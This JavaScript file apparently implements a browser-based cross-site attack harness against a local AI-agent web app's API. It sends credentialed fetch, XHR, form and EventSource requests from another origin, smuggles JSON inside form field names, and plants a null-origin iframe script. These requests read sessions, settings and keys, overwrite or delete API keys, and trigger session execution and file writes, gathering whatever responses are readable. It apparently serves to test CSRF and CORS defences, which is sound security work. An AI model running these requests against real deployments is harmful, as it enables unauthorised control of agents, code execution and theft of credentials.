// What every attack works with: the ways to ask, and a place for whatever could be read.
const loot = [];
// Where something must be found, a slow machine is waited for: t.patience times as long.
const pause = (ms) => new Promise((done) => setTimeout(done, ms * t.patience));
const within = (ms, promise) => Promise.race([promise, pause(ms)]);

// A body that came in readable form is loot, and so is each thing that was learned from it.
async function ask(url, options = {}) {
  try {
    const answer = await within(20_000, fetch(url, { credentials: "include", ...options }));
    if (!answer || answer.type === "opaque" || answer.type === "opaqueredirect") return;
    const text = await within(20_000, answer.text());
    if (text !== undefined) loot.push(`${answer.status} ${text}`);
  } catch {
    // refused by the browser: nothing was read
  }
}

function xhr(method, url, kind, body) {
  return within(20_000, new Promise((done) => {
    const asking = new XMLHttpRequest();
    asking.open(method, url);
    asking.withCredentials = true;
    if (kind) asking.setRequestHeader("Content-Type", kind);
    asking.onload = () => { loot.push(`${asking.status} ${asking.responseText}`); done(); };
    asking.onerror = done;
    asking.send(body);
  }));
}

// Whether the browser took the answer as a thing of this kind.
function put(tag, attributes, parent = document.body) {
  const made = document.createElement(tag);
  const settled = new Promise((done) => {
    made.onload = made.onloadeddata = () => done("load");
    made.onerror = () => done("error");
  });
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  parent.append(made);
  return { made, settled: within(1500, settled) };
}

// A form as a page can send it without asking first, into a frame or a window of its own.
function submit(url, enctype, fields, target = "sink") {
  if (target === "sink" && !document.querySelector("iframe[name=sink]")) put("iframe", { name: "sink" });
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: url, enctype, target });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { name, value });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
}

// A field whose name and value are, with the sign between them, the JSON that is wanted.
function disguised(body) {
  const text = body ?? "{}";
  const at = Math.max(text.indexOf("attack"), 1);
  return { [text.slice(0, at)]: text.slice(at) };
}

function listen(url, options) {
  const source = new EventSource(url, options);
  for (const kind of ["open", "message", "session_start", "token", "agent_start", "agent_end"])
    source.addEventListener(kind, (event) => loot.push(`stream ${kind} ${event.data ?? ""}`));
  return pause(500).then(() => source.close());
}

// A page inside a page, whose origin is none at all; it tells what it got.
async function inside(attributes, ms = 1500) {
  const told = new Promise((done) => addEventListener("message", (event) => done(event.data)));
  put("iframe", attributes);
  const got = await within(ms, told);
  if (got && got.length) loot.push(...got);
}

const boundary = (text) =>
  `--x\r\nContent-Disposition: form-data; name="files"; filename="a.py"\r\n\r\n${text}\r\n--x--\r\n`;

// Everything that tells something, and everything that changes something. t: where, and what of.
const reads = (t) => [
  ...["project", "sessions", "settings", "keys", "models", "agenda", "openapi.json"],
  ...["", "/events", "/files", "/download", "/report", "/log", "/execution"].map(
    (end) => `session/${t.waiting}${end}`,
  ),
].map((end) => `${t.base}/api/${end}`);
const streams = (t) => [`${t.base}/api/session/${t.working}/stream`, `${t.base}/api/session/${t.waiting}/stream?after=0`];
const pages = (t) => ["/", "/theme.js", "/mark.svg", `/s/${t.waiting}`].map((end) => t.base + end);
// One of each kind, where a row would ask for everything many times over.
const some = (t) => [...reads(t).filter((url) => /sessions|openapi|download|report/.test(url)), ...pages(t).slice(1, 3)];

const start = { workflow: "discuss", topic: "an attack", max_rounds: 1 };
const changes = (t) => [
  ["POST", "/api/session/start", start],
  ["POST", `/api/session/${t.working}/stop`, null],
  ["POST", `/api/session/${t.working}/developer-input`, { text: "an attack" }],
  ["POST", `/api/session/${t.waiting}/answer`, { question: t.question, option: t.option }],
  ["POST", `/api/session/${t.waiting}/complete`, null],
  ["POST", `/api/session/${t.waiting}/chat`, { message: "an attack" }],
  ["POST", `/api/session/${t.waiting}/retry`, { round: "development" }],
  ["POST", `/api/session/${t.waiting}/resume`, {}],
  ["POST", `/api/session/${t.waiting}/apply`, {}],
  ["POST", `/api/session/${t.waiting}/undo`, null],
  ["POST", `/api/session/${t.waiting}/execute`, null],
  ["POST", "/api/project", { knights: "rehearsal" }],
  ["POST", "/api/launch", { token: "A".repeat(43) }],
  ["PUT", `/api/session/${t.waiting}/files`, { files: [{ path: "a.py", text: "attack" }] }],
  ["PUT", "/api/settings", { project: "attacked", knights: [] }],
  ["PUT", "/api/keys/openai", { key: "sk-attack-0123456789abcdef" }],
  ["DELETE", "/api/keys/anthropic", null],
  ["DELETE", `/api/uploads/${t.upload}`, null],
].map(([method, path, body]) => ({ method, url: t.base + path, body: body && JSON.stringify(body) }));
// Those that need the least to succeed, where a row is one of many like it.
const few = (t) => changes(t).filter(({ url }) => /start$|stop|input|complete|settings|keys/.test(url));
const posts = (t) => changes(t).filter(({ method }) => method === "POST");
const simple = (method) => (method === "POST" ? "no-cors" : "cors");
const all = (list, what) => Promise.all(list.map(what));

// A page that tries everything by itself and tells its parent what it could read.
const script = (told) => `<script>(async () => {
  const t = ${JSON.stringify({ posts: posts(told).slice(0, 6), reads: reads(told).slice(0, 3) })};
  const got = [];
  for (const { method, url, body } of t.posts)
    for (const kind of ["text/plain", "application/json", ""])
      await fetch(url, {
        method, credentials: "include", mode: kind ? "cors" : "no-cors",
        ...(kind && { body: body ?? "{}", headers: { "Content-Type": kind } }),
      }).catch(() => 0);
  for (const url of t.reads)
    try {
      const answer = await fetch(url, { credentials: "include" });
      got.push(answer.status + " " + (await answer.text()));
    } catch {}
  parent.postMessage(got, "*");
})()</` + `script>`;
